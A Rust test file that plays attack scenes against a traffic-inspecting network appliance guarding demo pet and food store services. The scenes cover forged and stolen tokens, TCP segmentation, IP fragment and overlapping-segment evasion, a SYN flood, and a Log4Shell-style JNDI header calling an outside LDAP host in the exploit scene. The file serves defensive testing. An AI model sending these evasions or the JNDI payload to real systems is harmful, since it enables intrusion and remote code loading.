//! The scenes of the pet store: what is tried, and what has to come of it.

use std::io::Write;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::Duration;

use anyhow::Result;
use gwlb_geneve::Timestamp;

use super::READ_ONLY;
use super::tcp::SEGMENT;
use super::token::{Claims, issue};
use super::world::{End, FOOD_STORE, Heard, Means, PET_STORE, Store, World, Zone};

/// In the API gateway's subnets.
pub(super) const GATEWAY: Ipv4Addr = Ipv4Addr::new(10, 0, 64, 7);
pub(super) const OTHER_GATEWAY: Ipv4Addr = Ipv4Addr::new(10, 0, 65, 7);
/// Likewise, for clients that make their packets by hand.
pub(super) const CRAFTED_GATEWAY: Ipv4Addr = Ipv4Addr::new(10, 0, 64, 99);
/// A container that somebody has broken into.
pub(super) const LATERAL: Ipv4Addr = Ipv4Addr::new(10, 0, 9, 66);

/// Something that has to be so, and whether it is.
#[derive(Debug)]
pub(super) struct Expectation {
    pub(super) what: &'static str,
    pub(super) is_met: bool,
    pub(super) found: String,
}

impl Expectation {
    pub(super) const fn new(what: &'static str, is_met: bool, found: String) -> Self {
        Self { what, is_met, found }
    }
}

/// Plays all scenes.
pub(super) fn tell(world: &mut dyn World, out: &mut dyn Write) -> Result<Vec<Expectation>> {
    let mut story = Story { world, out, expectations: Vec::new() };
    story.opening()?;
    story.honest()?;
    story.forbidden()?;
    story.disguised()?;
    story.overlapping()?;
    story.pipelined()?;
    story.exploited()?;
    story.flooded()?;
    story.reloaded()?;
    story.restarted()?;
    Ok(story.expectations)
}

/// How a request is brought to the appliance.
#[derive(Clone, Copy)]
enum Cut {
    Whole,
    Bytes,
    Fragments,
}

struct Story<'a> {
    world: &'a mut dyn World,
    out: &'a mut dyn Write,
    expectations: Vec<Expectation>,
}

impl Story<'_> {
    fn opening(&mut self) -> Result<()> {
        self.say(
            "A pet store (10.0.1.10) and a food store (10.0.1.20) serve plain HTTP on port 8080 and check nothing. \
             The same two stand in zone A and in zone B, each behind an endpoint of the load balancer. The API \
             gateway's clients are in 10.0.64.0/24 and 10.0.65.0/24. The appliance judges every packet between.",
        )
    }

    fn honest(&mut self) -> Result<()> {
        self.scene("What is allowed")?;
        let found = self.ask(Zone::A, GATEWAY, PET_STORE, &get("/pets"), Cut::Whole)?;
        self.expect("GET without a token is answered", found == OK, found)?;
        let found = self.ask(Zone::B, LATERAL, FOOD_STORE, &get("/food/1"), Cut::Whole)?;
        self.expect("anyone may GET, in the other zone too", found == OK, found)?;
        let put = put("/pets/3", "Nemo", Some(&self.token("stores", 300)));
        let found = self.ask(Zone::A, GATEWAY, PET_STORE, &put, Cut::Whole)?;
        self.expect("PUT with a token from the API gateway is answered", found == OK, found)?;
        let [a, b] = [Zone::A, Zone::B].map(|zone| self.world.store(zone, PET_STORE));
        let (a, b) = (a?.table.len(), b?.table.len());
        let found = format!("{a} pets in zone A, {b} in zone B");
        self.expect("it is in the table, and in that of its zone alone", (a, b) == (3, 2), found)
    }

    fn forbidden(&mut self) -> Result<()> {
        self.scene("What is not")?;
        let (good, other) = (self.token("stores", 300), self.token("billing", 300));
        let expired = self.token("stores", -3_600);
        // Another letter in the middle of the signature.
        let (before, after) = good.split_at(good.len() - 9);
        let forged =
            format!("{before}{}{}", if after.starts_with('A') { 'B' } else { 'A' }, &after[1..]);
        for (what, from, token) in [
            ("PUT without a token is rejected", GATEWAY, None),
            ("PUT with an expired token is rejected", GATEWAY, Some(&expired)),
            ("PUT with a token for somebody else is rejected", OTHER_GATEWAY, Some(&other)),
            ("PUT with a forged signature is rejected", OTHER_GATEWAY, Some(&forged)),
            ("PUT with a stolen token from a lateral subnet is rejected", LATERAL, Some(&good)),
        ] {
            let put = put("/pets/1", "stolen", token.map(String::as_str));
            self.attack(what, from, &put, Cut::Whole)?;
        }
        let delete = b"DELETE /pets/1 HTTP/1.1\r\nHost: stores.example\r\n\r\n";
        self.attack("DELETE, of which no rule speaks, is rejected", GATEWAY, delete, Cut::Whole)
    }

    fn disguised(&mut self) -> Result<()> {
        self.scene("The same in disguise")?;
        let bad = put("/pets/1", "stolen", None);
        self.attack("PUT in segments of one byte is rejected", GATEWAY, &bad, Cut::Bytes)?;
        self.attack("PUT in IP fragments is rejected", CRAFTED_GATEWAY, &bad, Cut::Fragments)
    }

    /// A harmless request is sent ahead of time, and while it waits a forbidden one for the same place. A receiver may believe
    /// either.
    fn overlapping(&mut self) -> Result<()> {
        let before = self.tables()?;
        let bad = put("/pets/1", "stolen", None);
        let width = bad.len() - 4;
        let harmless = format!("{:<width$}\r\n\r\n", "GET /pets/2 HTTP/1.1\r\nX: ");
        let client = self.world.connect(Zone::A, CRAFTED_GATEWAY, PET_STORE, Means::Crafted)?;
        let first = get("/pets/1");
        self.world.say_ahead(client, first.len(), harmless.as_bytes())?;
        self.world.say_ahead(client, first.len(), &bad)?;
        self.world.say(client, &first, SEGMENT)?;
        let heard = self.world.hear(client)?;
        let log = self.world.store(Zone::A, PET_STORE)?.log;
        let last: Vec<_> = log.iter().rev().take(2).rev().map(String::as_str).collect();
        let is_met = heard.status() == OK
            && last == ["GET /pets/1", "GET /pets/2"]
            && self.tables()? == before;
        let found = format!("the service has seen {}", last.join(" and "));
        self.expect(
            "PUT over a GET that waits, in an overlapping segment, comes to nothing",
            is_met,
            found,
        )
    }

    fn pipelined(&mut self) -> Result<()> {
        self.scene("One behind the other")?;
        let before = self.tables()?;
        let client = self.world.connect(Zone::A, GATEWAY, PET_STORE, Means::Plain)?;
        self.world.say(client, &get("/pets/2"), SEGMENT)?;
        let first = self.world.hear(client)?.status();
        self.world.say(client, &put("/pets/2", "stolen", None), SEGMENT)?;
        let end = self.world.hear(client)?.end;
        let is_met = first == OK && end == End::Reset && self.tables()? == before;
        let found = format!("{first}, then {}", end.name());
        self.expect("of a GET with a PUT behind it, the second is stopped", is_met, found)
    }

    fn exploited(&mut self) -> Result<()> {
        self.scene("A known exploit, in a request that everyone may make")?;
        let lookup = b"GET /pets HTTP/1.1\r\nHost: stores.example\r\nUser-Agent: ${JNDI:ldap://203.0.113.66/a}\r\n\r\n";
        self.attack(
            "a header that has servers look up another one is rejected",
            GATEWAY,
            lookup,
            Cut::Whole,
        )?;
        self.attack("the same in segments of one byte", GATEWAY, lookup, Cut::Bytes)?;
        let kept = self.world.evidence()?;
        let found = format!("pcapng files with {kept} so far");
        self.expect("the flows are kept as evidence", kept > 0, found)
    }

    fn flooded(&mut self) -> Result<()> {
        self.scene("A flood of SYNs through the endpoint of zone A")?;
        let zones = [Zone::A, Zone::B];
        let [a, b] = zones.map(|zone| self.world.connect(zone, GATEWAY, PET_STORE, Means::Plain));
        let known = [a?, b?];
        self.world.flood(Zone::A, 20_000)?;
        self.say(
            "20,000 connections are begun from made-up addresses; the appliance has room for 8,192 flows, half of it \
             for each endpoint.",
        )?;
        let whats = ["a connection from before goes on", "one in the other zone does too"];
        for (client, what) in known.into_iter().zip(whats) {
            self.world.say(client, &get("/pets"), SEGMENT)?;
            let found = self.world.hear(client)?.status();
            self.expect(what, found == OK, found)?;
        }
        let found = self.ask(Zone::B, OTHER_GATEWAY, FOOD_STORE, &get("/food"), Cut::Whole)?;
        self.expect("and a new one there is served", found == OK, found)?;
        let bad = put("/pets/1", "stolen", None);
        self.attack("what is forbidden stays so", GATEWAY, &bad, Cut::Whole)
    }

    fn reloaded(&mut self) -> Result<()> {
        self.scene("Another policy, in the middle of a connection")?;
        let client = self.world.connect(Zone::B, GATEWAY, FOOD_STORE, Means::Plain)?;
        self.world.say(client, &get("/food/1"), SEGMENT)?;
        self.world.hear(client)?;
        self.world.reload(READ_ONLY)?;
        self.say("From now on nobody may write any more.")?;
        let put = put("/food/3", "oats", Some(&self.token("stores", 300)));
        self.world.say(client, &put, SEGMENT)?;
        self.world.hear(client)?;
        let is_fed = self.world.store(Zone::B, FOOD_STORE)?.table.contains_key("3");
        let found = if is_fed { "it may still write" } else { "it may not write" };
        let what = "a connection from before goes on under the policy that it began under";
        self.expect(what, is_fed, found.into())?;
        let found = self.ask(Zone::B, GATEWAY, FOOD_STORE, &put, Cut::Whole)?;
        self.expect("a new one is judged by the new policy", found == RESET, found)?;
        let found = self.ask(Zone::B, GATEWAY, FOOD_STORE, &get("/food/3"), Cut::Whole)?;
        self.expect("which lets everyone read", found == OK, found)
    }

    fn restarted(&mut self) -> Result<()> {
        self.scene("The appliance is killed, and started again")?;
        let client = self.world.connect(Zone::A, GATEWAY, PET_STORE, Means::Plain)?;
        self.world.say(client, &get("/pets/1"), SEGMENT)?;
        let before = self.world.hear(client)?.answer.len();
        self.world.restart()?;
        self.world.say(client, &get("/pets/2"), SEGMENT)?;
        let Heard { answer, end } = self.world.hear(client)?;
        let answer = answer.get(before..).unwrap_or_default().to_vec();
        let found = Heard { answer, end }.status();
        self.expect("a connection that it knows nothing of goes on", found == OK, found)?;
        let tables = self.tables()?;
        self.world.say(client, &put("/pets/1", "stolen", None), SEGMENT)?;
        let end = self.world.hear(client)?.end;
        let is_met = end == End::Reset && self.tables()? == tables;
        self.expect("and is judged: a PUT in it is rejected", is_met, end.name().into())
    }

    /// A request that has to be rejected, and has to change nothing.
    fn attack(
        &mut self,
        what: &'static str,
        from: Ipv4Addr,
        request: &[u8],
        cut: Cut,
    ) -> Result<()> {
        let before = self.stores()?;
        let found = self.ask(Zone::A, from, PET_STORE, request, cut)?;
        let is_untouched = self.stores()? == before;
        let seen = if is_untouched { "nothing" } else { "IT" };
        let found = format!("{found}, the service has seen {seen}");
        self.expect(what, found.starts_with(RESET) && is_untouched, found)
    }

    /// What a client gets for a request on a connection of its own.
    fn ask(
        &mut self,
        zone: Zone,
        from: Ipv4Addr,
        to: SocketAddrV4,
        request: &[u8],
        cut: Cut,
    ) -> Result<String> {
        let name = self.world.store(zone, to)?.name;
        let line = request.split(|byte| *byte == b'\r').next().unwrap_or_default();
        writeln!(self.out, "  {from} to the {name} in zone {zone:?}: {}", line.escape_ascii())?;
        let heard = match cut {
            Cut::Whole => self.world.ask(zone, from, to, request)?,
            Cut::Bytes => {
                let client = self.world.connect(zone, from, to, Means::Plain)?;
                self.world.say(client, request, 1)?;
                self.world.hear(client)?
            }
            Cut::Fragments => {
                let client = self.world.connect(zone, from, to, Means::Crafted)?;
                self.world.say_in_fragments(client, request, 24)?;
                self.world.hear(client)?
            }
        };
        Ok(heard.status())
    }

    /// A token that expires in so many seconds.
    fn token(&self, audience: &str, seconds: i64) -> String {
        let now = Duration::from_nanos(self.world.now().as_nanos());
        let span = Duration::from_secs(seconds.unsigned_abs());
        let expires = if seconds < 0 { now.saturating_sub(span) } else { now + span };
        issue(&Claims { audience, expires: Timestamp::from_unix(expires) })
    }

    /// What is in all tables.
    fn tables(&mut self) -> Result<Vec<std::collections::BTreeMap<String, String>>> {
        Ok(self.stores()?.into_iter().map(|store| store.table).collect())
    }

    fn stores(&mut self) -> Result<Vec<Store>> {
        let zones = [Zone::A, Zone::B].into_iter();
        let all = zones.flat_map(|zone| [(zone, PET_STORE), (zone, FOOD_STORE)]);
        all.map(|(zone, store)| self.world.store(zone, store)).collect()
    }

    fn scene(&mut self, title: &str) -> Result<()> {
        Ok(writeln!(self.out, "\n== {title}")?)
    }

    fn say(&mut self, text: &str) -> Result<()> {
        const WIDTH: usize = 100;

        let mut line = String::new();
        for word in text.split_whitespace() {
            if line.len() + word.len() >= WIDTH {
                writeln!(self.out, " {line}")?;
                line.clear();
            }
            line.push(' ');
            line.push_str(word);
        }
        Ok(writeln!(self.out, " {line}")?)
    }

    fn expect(&mut self, what: &'static str, is_met: bool, found: String) -> Result<()> {
        for alert in self.world.take_alerts()? {
            writeln!(self.out, "    alert {alert}")?;
        }
        let mark = if is_met { "->" } else { "-> NOT AS EXPECTED:" };
        writeln!(self.out, "    {mark} {what}: {found}")?;
        self.expectations.push(Expectation::new(what, is_met, found));
        Ok(())
    }
}

const OK: &str = "200 OK";
const RESET: &str = End::Reset.name();

impl Heard {
    /// The first answer's status; where there is none, why not.
    fn status(&self) -> String {
        let line = self.answer.split(|byte| *byte == b'\r').next().unwrap_or_default();
        match line.strip_prefix(b"HTTP/1.1 ") {
            Some(status) => status.escape_ascii().to_string(),
            None => self.end.name().to_owned(),
        }
    }
}

impl End {
    const fn name(self) -> &'static str {
        match self {
            Self::Open => "no answer",
            Self::Reset => "connection reset",
            Self::Missing => "no connection",
        }
    }
}

fn get(path: &str) -> Vec<u8> {
    format!("GET {path} HTTP/1.1\r\nHost: stores.example\r\n\r\n").into()
}

fn put(path: &str, value: &str, token: Option<&str>) -> Vec<u8> {
    let authorization = token.map(|token| format!("Authorization: Bearer {token}\r\n"));
    let authorization = authorization.unwrap_or_default();
    let head = format!("PUT {path} HTTP/1.1\r\nHost: stores.example\r\n{authorization}");
    format!("{head}Content-Length: {}\r\n\r\n{value}", value.len()).into()
}
